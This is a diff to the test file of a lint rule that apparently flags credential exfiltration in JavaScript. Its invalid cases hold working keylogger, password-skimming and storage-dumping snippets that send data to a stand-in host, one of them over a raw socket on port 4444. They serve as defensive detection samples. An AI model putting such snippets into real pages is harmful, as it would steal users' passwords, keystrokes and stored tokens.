@@ -10,6 +10,20 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // fields for passwords, keys of shortcuts, entries of a storage
+    { code: 'document.querySelector(\'#password\').addEventListener(\'input\', (e) => { meter.update(score(e.target.value)); });' },
+    { code: 'const pw = document.querySelector(\'#password\'); form.onsubmit = () => fetch(\'/login\', { method: \'POST\', body: pw.value });' },
+    { code: 'const pw = document.querySelector(\'#password\'); fetch(\'https://api.example-service.com/login\', { method: \'POST\', body: JSON.stringify({ password: pw.value }) });' },
+    { code: 'export const Field = () => <input type="password" onChange={(e) => setPassword(e.target.value)} />;', filename: 'a.tsx' },
+    { code: 'if (field.type === \'password\') { label.textContent = field.value.length; } fetch(\'https://api.example-service.com/fields\', { body: field.name });' },
+    { code: 'const { token } = await inquirer.prompt([{ type: \'password\', name: \'token\' }]); await fetch(\'https://api.example-service.com/user\', { headers: { authorization: `Bearer ${token}` } });' },
+    { code: 'document.addEventListener(\'keydown\', (e) => { if (e.key === \'Escape\') close(); });' },
+    { code: 'const ws = new WebSocket(url); document.addEventListener(\'keydown\', (e) => ws.send(JSON.stringify({ key: e.key })));' },
+    { code: 'search.addEventListener(\'keyup\', (e) => fetch(\'https://api.example-service.com/s?q=\' + e.target.value));' },
+    { code: 'document.addEventListener(\'keydown\', (e) => { if (e.key === \'k\') fetch(\'https://api.example-service.com/palette\', { method: \'POST\', body: JSON.stringify({ open: true }) }); });' },
+    { code: 'const get = (k) => localStorage.getItem(k); fetch(\'https://api.example-service.com/\', { method: \'POST\', body: get(name) });' },
+    { code: 'for (const k of Object.keys(localStorage)) if (k.startsWith(\'app:\')) localStorage.removeItem(k); fetch(\'https://api.example-service.com/\', { body: localStorage.getItem(\'theme\') });' },
+    { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'/api/login\'); x.send(password); }' },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${DD_API_KEY}" -d @metrics.json', filename: 'report.sh' },
     // the key of an interface in its own parameter, whatever the rest of the address
     { code: 'const ask = (model, apiKey, body) => fetch(`https://generativelanguage.googleapis.com/v1beta/models/${model}:generateContent?key=${apiKey}`, { method: "POST", body });' },
@@ -153,6 +167,24 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    // what is typed into a field for passwords or anywhere on a page, and all that a storage holds
+    { code: 'document.addEventListener(\'input\', (e) => { if (e.target.type === \'password\') fetch(\'https://x.example-service.com/\', { method: \'POST\', body: e.target.value }); });', errors: [{ messageId: 'credential' }] },
+    { code: 'const pw = document.querySelector(\'input[type="password"]\'); pw.addEventListener(\'blur\', () => { fetch(\'https://x.example-service.com/\', { method: \'POST\', body: pw.value }); });', errors: [{ messageId: 'credential' }] },
+    { code: 'document.getElementById(\'password\').addEventListener(\'change\', (e) => navigator.sendBeacon(\'https://x.example-service.com/\', e.target.value));', errors: [{ messageId: 'credential' }] },
+    { code: 'document.querySelector(\'#password\').oninput = ({ target: { value } }) => navigator.sendBeacon(\'https://x.example-service.com/\', value);', errors: [{ messageId: 'credential' }] },
+    { code: 'export const Field = () => <input type="password" onChange={(e) => { setPw(e.target.value); navigator.sendBeacon(\'https://x.example-service.com/\', e.target.value); }} />;', filename: 'a.tsx', errors: [{ messageId: 'credential' }] },
+    { code: 'import inquirer from \'inquirer\'; const { token } = await inquirer.prompt([{ type: \'password\', name: \'token\' }]); await fetch(\'https://x.example-service.com/\', { method: \'POST\', body: token });', errors: [{ messageId: 'credential' }] },
+    { code: 'document.addEventListener(\'change\', (e) => { const el = e.target; el.type === \'password\' && navigator.sendBeacon(\'https://x.example-service.com/?p=\' + el.value); });', errors: [{ messageId: 'credential' }] },
+    { code: 'document.onkeydown = (e) => { buf += e.key; if (buf.length > 50) { fetch(\'https://x.example-service.com/?k=\' + buf); buf = \'\'; } }; let buf = \'\';', errors: [{ messageId: 'credential' }] },
+    { code: 'const keys = []; window.addEventListener(\'keypress\', (e) => { keys.push(e.key); }); setInterval(() => { navigator.sendBeacon(\'https://x.example-service.com\', JSON.stringify(keys)); }, 5000);', errors: [{ messageId: 'credential' }] },
+    { code: 'document.addEventListener(\'keyup\', function ({ key }) { new Image().src = \'https://x.example-service.com/p.gif?\' + key; });', errors: [{ messageId: 'credential' }] },
+    { code: 'let log = \'\'; document.body.addEventListener(\'keydown\', (event) => { log += String.fromCharCode(event.keyCode); }); setInterval(() => { const x = new XMLHttpRequest(); x.open(\'POST\', \'https://x.example-service.com/k\'); x.send(log); log = \'\'; }, 1000);', errors: [{ messageId: 'credential' }] },
+    { code: 'const all = {}; for (let i = 0; i < localStorage.length; i++) all[localStorage.key(i)] = localStorage.getItem(localStorage.key(i)); fetch(\'https://x.example-service.com/\', { method: \'POST\', body: JSON.stringify(all) });', errors: [{ messageId: 'sent' }] },
+    { code: 'const all = Object.keys(localStorage).map((k) => [k, localStorage[k]]); navigator.sendBeacon(\'https://x.example-service.com/\', JSON.stringify(all));', errors: [{ messageId: 'sent' }] },
+    { code: 'const out = []; for (const k in window.sessionStorage) out.push(k, window.sessionStorage.getItem(k)); fetch(\'https://x.example-service.com/?\' + out.join());', errors: [{ messageId: 'sent' }] },
+    { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'https://x.example-service.com/k\'); x.send(password); }', errors: [{ messageId: 'credential' }] },
+    { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'https://x.example-service.com/k\', true); x.setRequestHeader(\'a\', \'b\'); x.send(\'p=\' + password); }', errors: [{ messageId: 'credential' }] },
+    { code: 'const net = require(\'net\'); function f(password) { const s = new net.Socket(); s.connect(4444, \'x.example-service.com\'); s.write(password); }', errors: [{ messageId: 'credential' }] },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${NPM_TOKEN}" -d @metrics.json', filename: 'report.sh', errors: [{ messageId: 'sent' }] },
     { code: 'const ask = (anthropicApiKey) => fetch(`https://generativelanguage.googleapis.com/v1beta/models?key=${anthropicApiKey}`);', errors: [{ messageId: 'credential' }] },
     { code: 'const track = (password) => fetch(`https://www.google-analytics.com/mp/collect?measurement_id=G-1&api_secret=x&ep=${password}`);', errors: [{ messageId: 'credential' }] },
